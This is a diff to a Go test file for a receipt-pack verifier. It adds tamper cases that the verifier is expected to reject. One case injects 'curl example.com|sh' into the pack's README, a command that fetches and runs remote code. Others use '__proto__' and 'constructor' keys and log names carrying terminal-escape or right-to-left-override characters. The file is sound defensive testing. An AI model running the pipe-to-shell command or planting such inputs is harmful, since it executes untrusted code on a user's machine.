@@ -9,13 +9,17 @@ import (
 	"encoding/asn1"
 	"encoding/base64"
 	"encoding/hex"
+	"encoding/pem"
 	"fmt"
 	"math/big"
 	"slices"
 	"strings"
 	"testing"
 
+	"golang.org/x/mod/sumdb/note"
+
 	"github.com/writ-gateway/writ/receipts"
+	"github.com/writ-gateway/writ/receipts/tlog"
 )
 
 // Every byte of a receipt's file, changed by one bit or another, is found in that receipt
@@ -139,10 +143,22 @@ func TestTamperedPacks(t *testing.T) {
 			}
 			return all
 		}()...), false, "receipt_missing@0", 3},
-		{"it says it is a range", twoOf(gone(0), put(FileManifest, replace(`{"kind":"log"}`, `{"first":1,"kind":"range","last":`+fmt.Sprint(last)+`}`))), false, "", 0},
+		{"it says it is a range", twoOf(gone(0), put(FileManifest, replace(`{"kind":"log"}`, `{"first":1,"kind":"range","last":`+fmt.Sprint(last)+`}`)), l.retell), false, "", 0},
 		{"a range that says less", put(FileManifest, replace(`{"kind":"log"}`, `{"kind":"range","last":3}`)), false, "receipt_extra", 1},
 		{"receipts.jsonl lists another", put(FileList, replace(`"seq":3`, `"seq":4`)), false, "list_differs@-1", 1},
 		{"receipts.jsonl is gone", drop(FileList), false, "file_missing@-1", 3},
+
+		{"the README names another command", put(FileReadme, replace("writ pack verify .", "curl example.com|sh; writ pack verify .")), false, "readme_differs@-1", 1},
+		{"the README names another key", put(FileReadme, replace(l.logKey(), other.logKey())), false, "readme_differs@-1", 1},
+		{"the README shows another digest", put(FileReadme, func(b []byte) []byte {
+			digest := field(string(b), "--digest ", " ")
+			return bytes.Replace(b, []byte(digest), []byte(strings.Repeat("0", 64)), 1)
+		}), false, "readme_differs@-1", 1},
+		{"the README says more", put(FileReadme, func(b []byte) []byte { return append(b, "\nAll is well.\n"...) }), false, "readme_differs@-1", 1},
+		{"the README is gone", drop(FileReadme), false, "file_missing@-1", 3},
+		{"the log's key is another", put(FileLogKey, func([]byte) []byte { return []byte(other.logKey() + "\n") }), false, "log_key_differs@-1", 1},
+		{"the log's key has a word before it", put(FileLogKey, func(b []byte) []byte { return append([]byte("x"), b...) }), false, "log_key_differs@-1", 1},
+		{"the log's key is gone", drop(FileLogKey), false, "file_missing@-1", 3},
 
 		{"evidence is another's", swap(evidenceName(3), evidenceName(4)), false, "evidence_differs@3 evidence_differs@4", 1},
 		{"evidence is changed", put(evidenceName(3), replace("session", "Session")), false, "evidence_differs@3", 1},
@@ -162,6 +178,10 @@ func TestTamperedPacks(t *testing.T) {
 		{"no manifest", drop(FileManifest), false, "file_missing@-1", 3},
 		{"another format", put(FileManifest, replace("writ-pack/v1", "writ-pack/v2")), false, "pack_malformed@-1", 2},
 		{"a member too many", put(FileManifest, replace(`{"evidence"`, `{"a":1,"evidence"`)), false, "pack_malformed@-1", 2},
+		{"a scope of no kind", put(FileManifest, replace(`{"kind":"log"}`, `{"kind":"logs"}`)), false, "pack_malformed@-1", 2},
+		{"a scope of a kind that all objects have", put(FileManifest, replace(`{"kind":"log"}`, `{"kind":"toString"}`)), false, "pack_malformed@-1", 2},
+		{"a scope of the kind of objects", put(FileManifest, replace(`{"kind":"log"}`, `{"kind":"__proto__"}`)), false, "pack_malformed@-1", 2},
+		{"a file all objects have", func(p files) { p["constructor"], p["__proto__"] = []byte("{}"), []byte("{}") }, false, "file_extra@-1", 1},
 		{"another origin", put(FileManifest, replace("log.example.org", "log.example.com")), false, "origin@-1", 1},
 		{"another size", put(FileManifest, replace(fmt.Sprintf(`"size":%d`, last+1), `"size":5`)), false, "pack_malformed@-1", 2},
 		{"another log's checkpoint", func(p files) { p[FileCheckpoint] = elsewhere.checkpoint(0) }, false, "origin@-1", 1},
@@ -231,6 +251,34 @@ func TestTamperedPacks(t *testing.T) {
 			}
 		})
 	}
+	// A receipt key that is no point of the curve.
+	off := f.with(put(keyName(1), func([]byte) []byte {
+		der, err := tlog.PublicDER(&l.priv.PublicKey)
+		if err != nil {
+			t.Fatal(err)
+		}
+		der[len(der)-1] ^= 1
+		return pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Bytes: der})
+	}))
+	if a := both(t, o, "tampered", f, off, Trust{}, Ask{}); !slices.Equal(a.Codes, []string{"pack_malformed@-1"}) || a.Exit != 2 {
+		t.Errorf("a key that is none: got %v", a.Codes)
+	}
+	if a := both(t, o, "tampered", f, off, l.trust(), Ask{}); !slices.Equal(a.Codes, []string{"key_untrusted@-1"}) {
+		t.Errorf("a key that is none, with keys: got %v", a.Codes)
+	}
+	// A log's key that could move the cursor of who reads its name, or is spelled in another way.
+	for _, key := range []string{
+		noted(t, "log.example.org\x1b[2J", l), noted(t, "log.example.org\u202e", l), noted(t, "LOG.example.org", l), noted(t, strings.Repeat("a.", 120)+"a", l),
+		strings.Replace(l.logKey(), "+", "+0", 1), "x", "",
+	} {
+		changed := f.with(put(FileLogKey, func([]byte) []byte { return []byte(key + "\n") }))
+		if a := both(t, o, "tampered", f, changed, Trust{}, Ask{}); !slices.Equal(a.Codes, []string{"pack_malformed@-1"}) {
+			t.Errorf("a log key %q: got %v", key, a.Codes)
+		}
+		if _, err := Verify(f.pack(), Trust{LogKey: key, Keys: l.trust().Keys}, Ask{}); err == nil {
+			t.Errorf("a log key %q is taken", key)
+		}
+	}
 	// Other keys than those that made it.
 	if a := both(t, o, "tampered", f, f, Trust{LogKey: other.logKey(), Keys: [][]byte{l.pub()}}, Ask{}); !slices.Equal(a.Codes, []string{"checkpoint_signature@-1"}) {
 		t.Errorf("another log key: got %v", a.Codes)
@@ -243,7 +291,21 @@ func TestTamperedPacks(t *testing.T) {
 	}
 }
 
-// all says whether each finding is of one code.
+// noted is the log's key under another name.
+func noted(t *testing.T, name string, l *lab) string {
+	t.Helper()
+	_, public, err := noteKey(l.logKey())
+	if err != nil {
+		t.Fatal(err)
+	}
+	key, err := note.NewEd25519VerifierKey(name, public)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return key
+}
+
+// every says whether each finding is of one code.
 func every(found []string, code string) bool {
 	return len(found) > 0 && !slices.ContainsFunc(found, func(f string) bool { return !strings.HasPrefix(f, code+"@") })
 }
